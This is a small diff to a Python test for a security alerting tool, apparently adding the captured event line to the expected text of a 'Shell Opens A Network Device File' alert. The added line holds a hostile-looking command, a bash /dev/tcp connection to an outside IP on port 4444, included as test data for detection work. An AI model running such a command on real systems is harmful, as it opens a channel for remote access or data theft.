@@ -205,6 +205,7 @@ def test_one_alert_is_told_in_words_and_attached_whole() -> None:
         == """\
 high: Shell Opens A Network Device File on web-1
 
+Event: bash -c cat </dev/tcp/203.0.113.7/4444
 Event time: 2026-11-20T18:00:00.000000Z
 Detected: 2026-11-20T18:00:01.000000Z
 Host: web-1
